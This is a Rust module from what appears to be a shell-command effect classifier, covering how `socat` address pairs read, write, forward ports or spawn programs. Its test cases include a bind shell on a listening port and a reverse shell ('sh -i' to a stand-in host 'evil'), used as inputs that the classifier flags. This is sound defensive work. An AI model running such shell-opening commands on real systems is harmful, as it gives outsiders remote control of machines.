//! `socat`: two ends that are joined, each an address such as `TCP:web01:80`. Pure.

use super::carry::{shell, writes};
use super::host;
use crate::classify::effect::{At, Command, Effect, Facts, Host, Report, Stdin};
use crate::classify::word::Word;

/// One of the two ends.
enum End {
    /// Its own stdin and stdout.
    Standard,
    /// A port of this machine at which it waits.
    Listens,
    /// A port of a machine.
    Port(Host),
    /// A socket of this machine.
    Socket,
    /// A file of this machine.
    File(Word),
    /// A program.
    Program(Word),
}

/// Judges a command of it.
#[must_use]
pub fn judge(command: &Command, _: &Facts) -> Report {
    let (mut one_way, mut back) = (false, false);
    let mut addresses: Vec<&Word> = Vec::new();
    let mut effects = Vec::new();
    let mut words = command.arguments().iter();
    while let Some(word) = words.next() {
        let Some(text) = word.known() else {
            if word.may_be_option() && addresses.len() < 2 {
                return Report::unknown(format!("what `{}` is can't be told before it runs", word.shown()));
            }
            addresses.push(word);
            continue;
        };
        match text {
            "-V" | "-h" | "-hh" | "-hhh" | "-?" | "-??" | "-???" => return Report::reads(),
            "-" => addresses.push(word),
            "-u" => one_way = true,
            "-U" => (one_way, back) = (true, true),
            "-b" | "-t" | "-T" | "-lp" | "-S" => {
                words.next();
            }
            "-r" | "-R" | "-lf" | "-L" | "-W" => effects.extend(words.next().and_then(writes)),
            _ if text.starts_with("-lf") => effects.extend(text.get(3..).and_then(|path| writes(&path.into()))),
            _ if text.starts_with("-L") || text.starts_with("-W") => {
                effects.extend(text.get(2..).and_then(|path| writes(&path.into())));
            }
            _ if text.starts_with('-') => {
                let plain = ["-d", "-D", "-v", "-x", "-s", "-g", "-4", "-6", "-0", "-ly", "-ls", "-lm", "-lu", "-lh"];
                let known = plain.iter().any(|option| text.starts_with(option))
                    || ["-b", "-t", "-T", "-lp"].iter().any(|option| text.starts_with(option));
                if !known {
                    return Report::unknown(format!("its option `{text}` is not known"));
                }
            }
            _ => addresses.push(word),
        }
    }
    let [first, second] = addresses.as_slice() else {
        return Report::unknown("which two ends it joins can't be told");
    };
    let (first, second) = match (end(first), end(second)) {
        (Ok(first), Ok(second)) => (first, second),
        (Err(why), _) | (_, Err(why)) => return Report::unknown(why),
    };
    let (from, to) = if back { (second, first) } else { (first, second) };
    reaches(&from, &to, one_way, command, &mut effects);
    Report { effects, by: None }
}

/// What joining both does; `one_way`: nothing goes from `to` to `from`.
fn reaches(from: &End, to: &End, one_way: bool, command: &Command, effects: &mut Vec<Effect>) {
    for (end, other, receives) in [(to, from, true), (from, to, !one_way)] {
        let stdin = match other {
            End::Standard => command.stdin.clone(),
            End::File(path) => Stdin::File(path.clone()),
            _ => Stdin::Unknown,
        };
        let silent = !receives || matches!(stdin, Stdin::Inherited | Stdin::Nothing);
        match end {
            End::Standard | End::Listens => {}
            End::Port(host) if matches!(other, End::Listens) => {
                let why = "what goes through the port that it opens can't be seen".to_owned();
                effects.push(Effect::Forwards { hosts: vec![host.clone()], why });
            }
            End::Port(_) | End::Socket if silent => {}
            End::Port(host) => {
                let why = "what is sent to a port is no command of a shell".to_owned();
                effects.push(Effect::UnknownAt { hosts: vec![host.clone()], why });
            }
            End::Socket => {
                effects.push(Effect::Unknown("what is sent to a socket is no command of a shell".to_owned()));
            }
            End::File(path) if receives => effects.extend(writes(path)),
            End::File(_) => {}
            End::Program(text) => {
                if matches!(other, End::Port(_) | End::Listens | End::Socket) {
                    effects.push(Effect::Unknown("it gives a program to whoever is at the other end".to_owned()));
                }
                effects.push(shell(text.clone(), At::Child, stdin));
            }
        }
    }
}

/// An address: its kind, what belongs to it behind colons, and options behind commas.
fn end(word: &Word) -> Result<End, String> {
    let odd = || format!("what the address `{}` joins can't be told", word.shown());
    let (kind, rest) = word.split_once(':').unwrap_or_else(|| (word.clone(), Word::default()));
    let kind = kind.known().ok_or_else(odd)?.to_ascii_uppercase();
    if word.stretches().any(|text| text.contains("!!")) {
        return Err(odd());
    }
    let plain = kind.split(',').next().unwrap_or_default();
    // Options may run programs or set where it goes.
    let options = |text: &str| {
        let odd = ["bind=", "su=", "su-d=", "chroot=", "cd=", "interface=", "proxy", "socks", "so-bindtodevice="];
        text.split(',')
            .skip(1)
            .any(|option| odd.iter().any(|odd| option.trim_start().to_ascii_lowercase().starts_with(odd)))
    };
    let known = rest.known();
    match plain {
        "-" | "STDIO" | "STDIN" | "STDOUT" | "STDERR" | "FD" | "READLINE" | "PIPE" | "PTY" | "ECHO"
            if known == Some("") || plain == "FD" =>
        {
            Ok(End::Standard)
        }
        _ if plain.ends_with("-LISTEN") || plain.ends_with("-L") || plain.contains("-RECV") => Ok(End::Listens),
        "TCP"
        | "TCP4"
        | "TCP6"
        | "TCP-CONNECT"
        | "TCP4-CONNECT"
        | "TCP6-CONNECT"
        | "UDP"
        | "UDP4"
        | "UDP6"
        | "UDP-CONNECT"
        | "UDP4-CONNECT"
        | "UDP6-CONNECT"
        | "UDP-SENDTO"
        | "UDP4-SENDTO"
        | "UDP6-SENDTO"
        | "UDP-DATAGRAM"
        | "UDP4-DATAGRAM"
        | "UDP6-DATAGRAM"
        | "SCTP"
        | "SCTP-CONNECT"
        | "OPENSSL"
        | "OPENSSL-CONNECT"
        | "SSL"
        | "OPENSSL-DTLS-CLIENT"
        | "DTLS" => match known {
            Some(text) if options(text) => Err(odd()),
            Some(text) => {
                let place = text.split(',').next().unwrap_or_default();
                Ok(End::Port(host::host(&host::with_port(&place.into()).host)))
            }
            None => Ok(End::Port(host::host(&host::with_port(&rest).host))),
        },
        "PROXY" | "PROXY-CONNECT" | "SOCKS4" | "SOCKS4A" | "SOCKS5" | "SOCKS5-CONNECT" => {
            let target = known.and_then(|text| text.split(':').nth(1)).ok_or_else(odd)?;
            Ok(End::Port(host::named(target)))
        }
        "UNIX" | "UNIX-CONNECT" | "UNIX-CLIENT" | "UNIX-SENDTO" | "ABSTRACT" | "ABSTRACT-CONNECT"
        | "ABSTRACT-CLIENT" | "VSOCK" | "VSOCK-CONNECT" | "INTERFACE" | "TUN" => Ok(End::Socket),
        "OPEN" | "CREATE" | "CREAT" | "GOPEN" | "FILE" => match known {
            Some(text) => Ok(End::File(text.split(',').next().unwrap_or_default().into())),
            None => Ok(End::File(rest)),
        },
        "EXEC" | "SYSTEM" | "SHELL" => match known {
            // It has quotes and brackets of its own.
            Some(text) if !text.contains(['"', '\'', '\\', '(', '[', '{']) => {
                Ok(End::Program(text.split(',').next().unwrap_or_default().into()))
            }
            _ => Ok(End::Program(Word::unknown())),
        },
        _ => Err(odd()),
    }
}

#[cfg(test)]
mod tests {
    use super::super::remote_cases::check;
    use super::*;

    #[test]
    fn ends() {
        check(
            judge,
            &[
                ("socat - TCP:web01:80", "reads"),
                ("socat - TCP:web01:80 <<< x", "unknown@web01"),
                ("socat STDIO tcp4-connect:[fe80::1]:80 <-", "unknown@fe80::1"),
                ("socat -u TCP:web01:80 -", "reads"),
                ("socat -u TCP:web01:80 OPEN:/etc/x,creat", "writes /etc/x"),
                ("socat -U OPEN:/etc/x TCP:web01:80", "writes /etc/x"),
                ("socat -u FILE:/tmp/x TCP:web01:80", "unknown@web01"),
                ("socat TCP-LISTEN:5433,fork TCP:db01:5432", "forwards@db01"),
                ("socat -d -d tcp-l:5433,fork,reuseaddr openssl:db01:5432,verify=0", "forwards@db01"),
                ("socat TCP-LISTEN:1234 -", "reads"),
                ("socat TCP-LISTEN:1234 EXEC:/bin/sh", "unknown; local[/bin/sh] <?"),
                ("socat TCP:evil:1 SYSTEM:'sh -i',pty", "unknown; local[sh -i] <?; unknown@evil"),
                ("socat - EXEC:'ssh web01 reboot' <<< x", "local[ssh web01 reboot] <<<x"),
                ("socat - SYSTEM:'echo (x)'", "local[…]"),
                ("socat - UNIX-CONNECT:/run/x.sock <<< x", "unknown"),
                ("socat - UNIX-CONNECT:/run/x.sock", "reads"),
                ("socat - PROXY:proxy:web01:22,proxyport=3128 <<< x", "unknown@web01"),
                ("socat - TCP:web01:80,bind=1.2.3.4 <<< x", "unknown"),
                ("socat - TCP:…:80 <<< x", "unknown@?"),
                ("socat … TCP:web01:80", "unknown"),
                ("socat - WHAT:web01", "unknown"),
                ("socat - TCP:a:1!!TCP:b:2", "unknown"),
                ("socat -Q - TCP:a:1", "unknown"),
                ("socat -V", "reads"),
                ("socat", "unknown"),
            ],
        );
    }
}
